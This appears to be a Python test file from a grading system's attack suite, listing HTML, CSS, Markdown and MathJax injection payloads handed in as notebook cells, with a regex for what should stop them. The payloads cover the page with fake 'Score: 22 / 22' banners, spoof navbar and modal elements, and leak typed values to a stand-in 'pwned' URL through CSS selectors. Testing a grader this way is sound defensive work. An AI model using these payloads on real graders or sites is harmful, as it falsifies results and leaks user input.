"""Lays styles over the page: covers it, imitates its buttons, loads pictures, reads what is typed, runs old scripts."""

from tests.attacks.payloads import hand_in_cells, script, texts

STOPPED_BY = r"&lt; ?style&gt;\* ?\{display: none"
page = "http://127.0.0.1:$port/pwned"
cover = "position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; background: white"
sources = (
    "<style>*{display: none}</style>",
    f"<div style='{cover}'>Score: 22 / 22</div>",
    f"<style>body::after{{content: 'Score: 22 / 22'; {cover}}}</style>",
    f"<div style='background: url({page}); width: expression({script})'>x</div>",
    f"<div style='-moz-binding: url({page}); behavior: url(x)'>x</div>",
    f"<style>input[value^='2']{{background: url({page})}} @font-face{{font-family: x; src: url({page})}}</style>",
    "<nav class='navbar navbar-default navbar-fixed-top' style='height: 100vh'>Score: 22 / 22</nav>",
    "<div class='modal-backdrop in'></div><div class='modal fade in' style='display: block'>x</div>",
    "```navbar-fixed-top\nScore: 22 / 22\n```\n\n~~~ python modal-backdrop\nx\n~~~",
    "| Score |\n|:---:|\n| <span style='font-size: 999px'>22</span> |",
    "$\\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:white}{22}$",
    "$\\rule{999em}{999em}$ $\\smash{\\lower 99em{\\Rule{99em}{99em}{99em}}}$ $\\llap{\\text{Score: 22 / 22}}$",
    "$\\bbox[background: url(" + page + ")]{x}$ $\\class{navbar-fixed-top}{x}$ $\\cssId{q6_why}{x}$",
    f"<font color=red size=99>x</font> <center><blink>x</blink></center> <xmp>x <listing> <b dir=rtl {'x ' * 99}>",
)


def hand_in(folder, places):
    hand_in_cells(folder, places, *texts(*sources))
